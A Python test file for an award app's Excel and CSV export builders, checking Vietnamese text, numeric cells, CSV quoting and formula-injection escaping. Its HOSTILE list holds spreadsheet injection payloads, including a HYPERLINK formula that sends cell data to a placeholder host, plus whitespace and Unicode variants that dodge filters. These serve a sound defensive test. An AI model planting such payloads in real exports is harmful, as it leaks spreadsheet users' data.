"""Export builders: header and rows in, a file Excel opens out, Vietnamese text intact."""

import csv
import io
import zipfile

import openpyxl

from award_app.exports import builders

HEADER = ["Nhóm xếp hạng", "Hạng", "Mã hồ sơ", "Tên", "Tỉnh/thành phố", "Điểm", "Giải"]
ROWS = [
    ["Trung học cơ sở", 1, "ES-2026-0001", "Trường THCS Nguyễn Trãi", "Hà Nội", 87.67, "Giải Nhất"],
    ["Trung học cơ sở", 2, "ES-2026-0002", "Trường THCS Lê Văn Tám", "Đà Nẵng", 70.33, "Giải Nhì"],
    ["Tiểu học", None, "ES-2026-0003", "Trường Tiểu học Đoàn Thị Điểm", "", None, ""],
]


def test_the_xlsx_opens_with_openpyxl_and_holds_the_header_and_rows():
    body = builders.xlsx([("Kết quả", HEADER, ROWS)])
    assert body[:2] == b"PK"
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["Kết quả"]
    rows = list(workbook["Kết quả"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    # an empty cell reads back as None
    assert [list(r) for r in rows[1:]] == [[None if v == "" else v for v in row] for row in ROWS]
    assert workbook["Kết quả"]["A1"].font.bold


def test_the_xlsx_keeps_numbers_as_numbers():
    sheet = openpyxl.load_workbook(io.BytesIO(builders.xlsx([("Kết quả", HEADER, ROWS)]))).active
    assert sheet["B2"].value == 1 and isinstance(sheet["F2"].value, float) and sheet["F2"].value == 87.67


def test_several_sheets_and_long_titles():
    long_title = "Chứng nhận công nhận – Không khí sạch (đô thị lớn)"
    body = builders.xlsx([("Kết quả", HEADER, ROWS), (long_title, ["Mã hồ sơ"], iter([["SC-2026-0001"]]))])
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    assert workbook.sheetnames == ["Kết quả", long_title[:31]]
    assert list(workbook.worksheets[1].iter_rows(values_only=True)) == [("Mã hồ sơ",), ("SC-2026-0001",)]


def test_an_empty_result_still_has_its_header():
    sheet = openpyxl.load_workbook(io.BytesIO(builders.xlsx([("Kết quả", HEADER, [])]))).active
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == [HEADER]


def test_the_csv_starts_with_a_utf8_bom_and_keeps_vietnamese_text():
    body = builders.csv_bytes(HEADER, ROWS)
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == HEADER
    assert rows[1] == ["Trung học cơ sở", "1", "ES-2026-0001", "Trường THCS Nguyễn Trãi", "Hà Nội", "87.67",
                       "Giải Nhất"]
    assert rows[3][3] == "Trường Tiểu học Đoàn Thị Điểm" and rows[3][1] == ""
    assert "Nguyễn Trãi".encode() in body  # UTF-8, not a legacy code page


def test_the_csv_quotes_commas_quotes_and_line_breaks():
    tricky = [["Số 1, phố Huế", 'Trường "Xanh"', "dòng 1\ndòng 2"]]
    body = builders.csv_bytes(["Địa chỉ", "Tên", "Ghi chú"], tricky)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[1] == tricky[0]
    assert body.count("\ufeff".encode()) == 1


HOSTILE = ['=HYPERLINK("http://x/?"&A2,"y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
           # blanks a spreadsheet skips before the formula: spaces, no-break and other spaces, a byte-order mark,
           # zero-width and direction marks, vertical tab and form feed, a line separator
           ' =HYPERLINK("http://x/?"&A2,"y")', "   +1", "\xa0=1", "\ufeff=1", "\u200b@SUM(A1)", "\u3000-1+2",
           "\u2007\u202f=1", "\u200e=1", "\x0b=1", "\x0c+1", "\u2028=1", "\ufeff ＝1", " \t =1"]
HARMLESS = ["Hà Nội - Việt Nam", " Hà Nội", "\xa0Trường", "a=b", "email@example.vn", "1-2"]


def test_a_formula_like_csv_cell_is_prefixed_with_a_quote_and_numbers_stay_numbers():
    body = builders.csv_bytes(["=header"], [[name, -1.5, 0, "Hà Nội - Việt Nam"] for name in HOSTILE])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=header"]
    assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE]
    assert all(row[1:] == ["-1.5", "0", "Hà Nội - Việt Nam"] for row in rows[1:])
    harmless = list(csv.reader(io.StringIO(builders.csv_bytes(HARMLESS, []).decode("utf-8-sig"), newline="")))
    assert harmless == [HARMLESS]  # text is left as it is when nothing in it could start a formula


def test_a_formula_like_xlsx_cell_is_a_quoted_string_not_a_formula():
    body = builders.xlsx([("Kết quả", ["=header"], [[name, -1.5, -3, "Hà Nội"] for name in HOSTILE])])
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet["A1"].value == "=header" and sheet["A1"].data_type == "s" and sheet["A1"].font.bold
    for row, name in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.value == name.replace("\x0b", "").replace("\x0c", "")  # XML holds no such control character
        assert cell.data_type == "s" and cell.quotePrefix, repr(name)
    assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n" and sheet["C2"].value == -3
    assert sheet["D2"].value == "Hà Nội" and not sheet["D2"].quotePrefix
    harmless = openpyxl.load_workbook(io.BytesIO(builders.xlsx([("x", HARMLESS, [])]))).active
    assert [cell.value for cell in harmless[1]] == HARMLESS and not any(cell.quotePrefix for cell in harmless[1])
